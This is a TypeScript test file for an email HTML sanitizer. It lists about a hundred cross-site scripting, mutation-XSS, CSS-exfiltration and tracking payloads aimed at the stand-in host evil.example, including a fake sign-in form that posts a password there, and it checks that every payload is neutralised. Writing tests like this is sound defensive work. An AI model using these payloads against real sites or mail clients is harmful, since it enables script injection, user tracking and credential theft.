import { expect, test } from 'vitest'
import { safeHtml } from './safe-html.ts'

/** What strangers try in the HTML of a mail: each calls `pwn()` or loads something of evil.example where it succeeds. */
const attacks: readonly string[] = [
  '<script>pwn()</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<script/x>pwn()</script>',
  '<<script>pwn()//<</script>',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<img src=x onerror=pwn()>',
  '<img src="x" onerror="pwn()" />',
  '<img src=x:x onerror=pwn()//',
  '<img """><script>pwn()</script>">',
  '<img src=`x` onerror=`pwn()`>',
  '<img/src="x"/onerror=pwn()>',
  '<img src="https://evil.example/a.png">',
  '<img src="//evil.example/a.png">',
  '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
  '<img src="/api/attachments/1">',
  '<img src="javascript:pwn()">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bigpIi8+">',
  '<img src="data:text/html,<script>pwn()</script>">',
  '<img src="cid:of-another-mail">',
  '<img lowsrc="https://evil.example/a.png" dynsrc="https://evil.example/b.avi">',
  '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>',
  '<svg onload=pwn()></svg>',
  '<svg><script>pwn()</script></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:pwn()"><text x=20 y=20>click</text></a></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>pwn()</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
  '<math><mi//xlink:href="data:x,<script>pwn()</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<noembed><img title="</noembed><img src=x onerror=pwn()>"></noembed>',
  '<textarea><img title="</textarea><img src=x onerror=pwn()>"></textarea>',
  '<title><img title="</title><img src=x onerror=pwn()>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=pwn()>"></xmp>',
  '<template><img src=x onerror=pwn()></template>',
  '<style>@import "https://evil.example/a.css"; body{background:url(https://evil.example/b.png)}</style>',
  '<style><img src="</style><img src=x onerror=pwn()//">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<link rel=preload as=image href="https://evil.example/a.png"><link rel=dns-prefetch href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/"><a href="x">go</a><img src="a.png">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<frameset><frame src="javascript:pwn()"></frameset>',
  '<object data="https://evil.example/x.swf"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg=="></object>',
  '<embed src="https://evil.example/x.svg">',
  '<applet code="x" archive="https://evil.example/x.jar"></applet>',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>',
  '<video><source onerror=pwn()></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
  '<input type=image src="https://evil.example/a.png" autofocus onfocus=pwn()>',
  '<button formaction="javascript:pwn()">x</button><isindex action="javascript:pwn()" type=image>',
  '<select autofocus onfocus=pwn()><option>1</select>',
  '<details open ontoggle=pwn()><summary>x</summary></details>',
  '<marquee onstart=pwn()>x</marquee>',
  '<body onload=pwn() background="https://evil.example/b.png">',
  '<table background="https://evil.example/b.png"><td background="https://evil.example/c.png">x</table>',
  '<p style="background:url(https://evil.example/b.png)">x</p>',
  '<p style="background-image:\\75rl(https://evil.example/b.png)">x</p>',
  '<p style="color:red;/**/background:u/**/rl(https://evil.example/b.png)">x</p>',
  '<p style="background:image-set(\'https://evil.example/b.png\' 1x)">x</p>',
  '<p style="list-style:url(https://evil.example/b.png);cursor:url(https://evil.example/c.cur),auto">x</p>',
  '<p style="width:expression(pwn());behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml)">x</p>',
  '<p style="color:red&quot;onmouseover=&quot;pwn()">x</p>',
  '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9999">covers all</div>',
  '<p style="content:url(https://evil.example/b.png);mask:url(https://evil.example/m.svg);filter:url(https://evil.example/f.svg#f)">x</p>',
  '<a href="javascript:pwn()">x</a>',
  '<a href=" java\tscript:pwn()">x</a>',
  '<a href="&#106;&#97;vascript:pwn()">x</a>',
  '<a href="&#x6A&#x61vascript&colon;pwn()">x</a>',
  '<a href="\u0001javascript:pwn()">x</a>',
  '<a href="vbscript:pwn()">x</a>',
  '<a href="data:text/html,<script>pwn()</script>">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/api/sign-out">a way into our house</a>',
  '<a href="#" onclick="pwn()" onmouseover=pwn()>x</a>',
  '<a href="https://evil.example/" target=_self ping="https://evil.example/ping" download>x</a>',
  '<a href="https://evil.example/"><img src=x onerror=pwn()></a>',
  '<p id=document class=x name=cookie>clobbers</p><a id=location href="https://evil.example/">x</a>',
  '<!--><img src=x onerror=pwn()>-->',
  '<!--[if gte IE 4]><script>pwn()</script><![endif]-->',
  '<![CDATA[<img src=x onerror=pwn()>]]>',
  '<?xml-stylesheet href="javascript:pwn()"?><?php pwn() ?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/e">]><p>&e;</p>',
  '</p><img src=x onerror=pwn()><p',
  '<p title="<img src=x onerror=pwn()>">x</p>',
  '<p>&lt;img src=x onerror=pwn()&gt; &amp;lt;script&amp;gt;</p>',
  '<x-evil onclick=pwn()><img is=x-evil src=x onerror=pwn()></x-evil>',
  '<dialog open onclose=pwn()>x</dialog><slot onslotchange=pwn()></slot>',
  '<a href="https://evil.example/" data-src="javascript:pwn()" data-cid="x">x</a>',
  '<img data-src="https://evil.example/a.png" data-cid="of-another-mail" onload=pwn()>',
  '<img src="https://evil.example/o.gif" width=1 height=1><img src="https://evil.example/o.gif" style="width:0;height:0">',
  '\0<scr\0ipt>pwn()</scr\0ipt><img src=x on\0error=pwn()>',
  '<ﬁgure><img src=x onerror=pwn()></ﬁgure><İmg src=x onerror=pwn()>',
]

const safe = attacks.map((attack) => ({ attack, safe: safeHtml(attack, new Set(['own'])) }))

test('there are enough of them, each another', () => {
  expect(new Set(attacks).size).toBe(attacks.length)
  expect(attacks.length).toBeGreaterThanOrEqual(60)
})

const allowedTag =
  /^<\/?(?:p|div|br|hr|pre|blockquote|center|h[1-6]|ul|ol|li|dl|dt|dd|a|b|strong|i|em|u|s|strike|del|ins|sub|sup|small|big|code|tt|span|font|abbr|img|table|caption|colgroup|col|thead|tbody|tfoot|tr|th|td)(?:\s|\/?>)/u

test.each(safe)('$attack', ({ safe: html }) => {
  const tags = html.match(/<[^>]*>?/gu) ?? []
  for (const tag of tags) {
    expect(tag).toMatch(allowedTag)
    // Names of attributes stand outside the quotes.
    const bare = tag.replace(/"[^"]*"/gu, '""')
    expect(bare).not.toMatch(
      /\son|\s(?:src|srcset|id|class|name|action|formaction|background|poster|ping|xlink:href)=/iu,
    )
    for (const [, url = ''] of tag.matchAll(/\shref="([^"]*)"/gu)) expect(url).toMatch(/^(?:https?:\/\/|mailto:|tel:)/u)
    for (const [, url = ''] of tag.matchAll(/\sdata-src="([^"]*)"/gu)) expect(url).toMatch(/^https?:\/\//u)
    for (const [, style = ''] of tag.matchAll(/\sstyle="([^"]*)"/gu))
      expect(style).not.toMatch(/url|\(|\\|position|expression/iu)
  }
  expect(html).not.toContain('of-another-mail')
})

test('what is left of them is what the browsers are given to try in e2e/flows/mail-html.spec.ts', async () => {
  await expect(`${JSON.stringify(safe, null, 2)}\n`).toMatchFileSnapshot(
    '../../../../../../../e2e/fixtures/mail-attacks.json',
  )
})
